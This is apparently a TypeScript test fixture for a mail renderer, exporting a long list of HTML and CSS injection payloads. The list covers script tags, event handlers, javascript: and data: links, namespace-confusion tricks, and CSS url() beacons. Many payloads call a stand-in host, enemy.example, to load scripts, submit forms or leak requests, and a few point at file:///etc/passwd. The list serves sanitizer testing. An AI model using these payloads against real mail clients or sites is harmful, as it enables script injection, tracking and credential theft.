/** Where an attack tells that it has worked: by calling this name, or by asking this host for anything. */
export const STRUCK = 'struck'
export const ENEMY = 'enemy.example'
const X = `top.${STRUCK}(1)`
const U = `https://${ENEMY}/x`

const SCRIPTS = [
  `<script>${X}</script>`, `<ScRiPt>${X}</sCrIpT>`, `<script src="${U}.js"></script>`, `<script src=//${ENEMY}/x.js></script>`, `<script/src="${U}">`, `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>${X}//<</script>`, `<script\n>${X}</script\n>`, `<script\x00>${X}</script>`, `<script type=module>${X}</script>`, `<script>/*<!--*/${X}//--></script>`, `<!--><script>${X}</script>-->`,
  `<!--[if gte IE 4]><script>${X}</script><![endif]-->`, `<![CDATA[<script>${X}</script>]]>`, `<?xml version="1.0"?><script>${X}</script>`, `<noscript><p title="</noscript><script>${X}</script>">`,
  `<title></title><script>${X}</script>`, `<textarea></textarea><script>${X}</script>`, `<style></style><script>${X}</script>`, `<xmp><p title="</xmp><script>${X}</script>">`,
  `<plaintext><script>${X}</script>`, `<template><script>${X}</script></template>`, `<iframe><script>${X}</script></iframe>`, `<noembed><img title="</noembed><img src onerror=${X}>"></noembed>`, `</p><script>${X}</script><p>`
]
const HANDLERS = [
  `<img src=x onerror=${X}>`, `<img src="x" onerror="${X}">`, `<img/src=x/onerror=${X}>`, `<img src=x onerror\n=\n${X}>`, `<img src=x oNeRrOr=${X}>`, `<img """><script>${X}</script>">`, `<img src=\`x\`onerror=${X}>`,
  `<img src=x:x onerror=${X}>`, `<image src=x onerror=${X}>`, `<img src=x on\x00error=${X}>`, `<img src=x onerror=&#x74;&#x6f;&#x70;.${STRUCK}(1)>`, `<img srcset="x 1x" onerror=${X}>`, `<img src=x alt='"onerror=${X} x="'>`,
  `<body onload=${X}>`, `<svg onload=${X}>`, `<svg/onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><g onload=${X}></g></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><set onbegin=${X}>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>x</text></a></svg>`, `<svg><animate xlink:href=#x attributeName=href values=javascript:${X} /><a id=x><text>x</text></a>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${X}'/></svg>#x">`,
  `<svg><foreignObject><iframe src="javascript:${X}"></iframe></foreignObject></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${X}></style></mglyph></table></mtext></math>`, `<math href="javascript:${X}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`, `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<input onfocus=${X} autofocus>`, `<select onfocus=${X} autofocus>`, `<textarea onfocus=${X} autofocus>`, `<keygen onfocus=${X} autofocus>`, `<button onfocus=${X} autofocus>x</button>`, `<details open ontoggle=${X}>x</details>`, `<div tabindex=1 autofocus onfocus=${X}>x</div>`,
  `<video><source onerror=${X}></video>`, `<video src=x onerror=${X}>`, `<audio src=x onerror=${X}>`, `<video poster="${U}">`, `<object data=x onerror=${X}>`, `<embed src=x onerror=${X}>`, `<marquee onstart=${X}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${X}>x</marquee>`,
  `<div onpointerenter=${X} style="font-size:99px">x</div>`, `<p onmouseover=${X}>x</p>`, `<a onclick=${X} href=#>x</a>`, `<table background="javascript:${X}">`, `<td background="${U}.png">`, `<body background="${U}.png">`, `<link rel=stylesheet href=x onerror=${X}>`,
  `<style onload=${X}></style>`, `<frameset onload=${X}>`, `<x onanimationstart=${X} style="animation:x 1s">x</x>`, `<x ontransitionend=${X} style="transition:all 1s">x</x>`, `<dialog open onclose=${X}>x</dialog>`, `<p onbeforematch=${X} hidden=until-found>x</p>`, `<div oncontentvisibilityautostatechange=${X} style="content-visibility:auto">`
]
const ADDRESSES = [
  `<a href="javascript:${X}">x</a>`, `<a href=" javascript:${X}">x</a>`, `<a href="\x01javascript:${X}">x</a>`, `<a href="java\tscript:${X}">x</a>`, `<a href="java\nscript:${X}">x</a>`, `<a href="jAvAsCrIpT:${X}">x</a>`, `<a href="&#106;avascript:${X}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${X}">x</a>`, `<a href="javascript&colon;${X}">x</a>`, `<a href="javascript&#0000058;${X}">x</a>`, `<a href="java&Tab;script:${X}">x</a>`, `<a href="&NewLine;javascript:${X}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>${X}</script>">x</a>`, `<a href="data:text/html;base64,${Buffer.from(`<script>${X}</script>`).toString('base64')}">x</a>`, `<a href="feed:javascript:${X}">x</a>`, `<a href="view-source:javascript:${X}">x</a>`,
  `<a href="blob:https://${ENEMY}/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="intent://x#Intent;end">x</a>`, `<a href="ms-msdt:/id x">x</a>`, `<a href="search-ms:query=x">x</a>`, `<a href="//${ENEMY}/">x</a>`, `<a href="\\\\${ENEMY}\\x">x</a>`, `<a ping="${U}" href="https://good.example/">x</a>`,
  `<a target=_top href="javascript:${X}">x</a>`, `<a target=_parent href="https://${ENEMY}/">x</a>`, `<a xlink:href="javascript:${X}">x</a>`, `<area href="javascript:${X}">`, `<map name=m><area shape=default href="javascript:${X}"></map><img usemap=#m src=x>`,
  `<base href="https://${ENEMY}/">`, `<base target=_top>`, `<meta http-equiv=refresh content="0;url=https://${ENEMY}/">`, `<meta http-equiv="refresh" content="0;url=javascript:${X}">`, `<meta http-equiv="Set-Cookie" content="x=1">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<meta name=referrer content=unsafe-url>`, `<link rel=stylesheet href="${U}.css">`, `<link rel=prefetch href="${U}">`, `<link rel=dns-prefetch href="//${ENEMY}">`, `<link rel=preconnect href="https://${ENEMY}">`, `<link rel=import href="${U}">`, `<link rel=manifest href="${U}">`, `<link rel="shortcut icon" href="${U}">`,
  `<iframe src="javascript:${X}"></iframe>`, `<iframe src="https://${ENEMY}/"></iframe>`, `<iframe srcdoc="<script>${X}</script>"></iframe>`, `<iframe srcdoc="<img src=x onerror=${X}>"></iframe>`, `<frame src="javascript:${X}">`, `<object data="javascript:${X}"></object>`, `<object data="${U}.swf"></object>`,
  `<object type="text/html" data="data:text/html,<script>${X}</script>"></object>`, `<embed src="${U}.swf">`, `<embed src="data:text/html,<script>${X}</script>">`, `<applet code=x archive="${U}.jar"></applet>`, `<portal src="https://${ENEMY}/">`, `<fencedframe src="https://${ENEMY}/">`,
  `<form action="https://${ENEMY}/"><input name=a value=b><button>x</button></form>`, `<form action="javascript:${X}"><button autofocus>x</button></form>`, `<form id=f action="https://${ENEMY}/"></form><button form=f>x</button>`, `<input type=submit formaction="javascript:${X}">`, `<input type=image src="${U}.png">`,
  `<isindex type=image src="${U}.png" action=x>`, `<button formaction="https://${ENEMY}/">x</button>`, `<img src="javascript:${X}">`, `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${X}'/>">`, `<img src="data:image/png;base64,AAAA">`, `<img lowsrc="${U}.png">`, `<img dynsrc="${U}.png">`,
  `<img srcset="${U}.png 1x">`, `<picture><source srcset="${U}.png"><img></picture>`, `<video src="${U}.mp4" autoplay></video>`, `<audio src="${U}.mp3" autoplay></audio>`, `<track src="${U}.vtt">`, `<bgsound src="${U}.mp3">`, `<svg><image href="${U}.png"/></svg>`, `<svg><feImage href="${U}.png"/></svg>`,
  `<img src="/v1/session" alt=x>`, `<img src="/v1/me">`, `<img src="../../../../me">`, `<img src="\\\\${ENEMY}\\x.png">`, `<img src="file:///etc/passwd">`, `<img src="cid:../../../../me">`, `<img src="cid:a%2f..%2f..">`
]
const STYLES = [
  `<p style="background:url(${U}.png)">x</p>`, `<p style="background-image:url('${U}.png')">x</p>`, `<p style="background:u\\72l(${U}.png)">x</p>`, `<p style="background:/**/url(${U}.png)">x</p>`, `<p style="background:URL(//${ENEMY}/x)">x</p>`, `<p style="background-image:image-set('${U}.png' 1x)">x</p>`,
  `<p style="background:-webkit-image-set(url(${U}.png) 1x)">x</p>`, `<p style="background:cross-fade(url(${U}.png),red,50%)">x</p>`, `<p style="list-style:url(${U}.png)">x</p>`, `<ul style="list-style-image:url(${U}.png)"><li>x</ul>`, `<p style="border-image:url(${U}.png) 1">x</p>`, `<p style="cursor:url(${U}.cur),auto">x</p>`,
  `<p style="content:url(${U}.png)">x</p>`, `<p style="mask:url(${U}.svg#m)">x</p>`, `<p style="filter:url(${U}.svg#f)">x</p>`, `<p style="clip-path:url(${U}.svg#c)">x</p>`, `<p style="shape-outside:url(${U}.png)">x</p>`, `<p style="width:expression(${X})">x</p>`, `<p style="behavior:url(${U}.htc)">x</p>`,
  `<p style="-moz-binding:url(${U}.xml#x)">x</p>`, `<p style="--a:url(${U}.png);background:var(--a)">x</p>`, `<p style="font:12px x;src:url(${U}.woff)">x</p>`, `<style>@import "${U}.css";</style>`, `<style>@import url(${U}.css);</style>`, `<style>@font-face{font-family:x;src:url(${U}.woff)}*{font-family:x}</style>`,
  `<style>body{background:url(${U}.png)}</style>`, `<style>*{background:url(${U}.png)!important}</style>`, `<style><!--</style><script>${X}//--></script>`, `<style>@media all{*{background:url(${U})}}</style>`, `<style>input[value^=a]{background:url(${U})}</style><input value=a>`, `<style>@namespace "${U}";</style>`, `<STYLE TYPE="text/javascript">${X}</STYLE>`,
  `<div style="position:fixed;inset:0;background:red">Sign in again</div>`, `<div style="position:absolute;top:-5000px;left:0;width:9999px;height:9999px;background:red;z-index:99999">x</div>`, `<div style="position:sticky;top:0">x</div>`, `<div style="margin-top:-500px">x</div>`, `<div style="transform:translateY(-900px) scale(9)">x</div>`,
  `<div style="animation:x 1s infinite">x</div>`, `<p style="color:red;}body{background:url(${U})}">x</p>`, `<p style='color:red"onmouseover=${X} "'>x</p>`, `<p style="color:red&quot; onmouseover=${X} x=&quot;">x</p>`, `<p style="background:url(javascript:${X})">x</p>`, `<p style="color:re\\d;background:ur\\l(${U})">x</p>`,
  `<blink>x</blink><marquee behavior=alternate>x</marquee>`, `<p style="display:block;-webkit-user-modify:read-write">x</p>`, `<p contenteditable onfocus=${X} autofocus>x</p>`, `<p class="k-elsewhere" id="root">x</p>`, `<a name=document href=#>x</a><img name=cookie><form id=location></form>`
]

/** Known ways of making a mail act in a browser that shows it: scripts, handlers, addresses, styles; each must be shown and do nothing. */
export const ATTACKS: readonly string[] = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...STYLES]
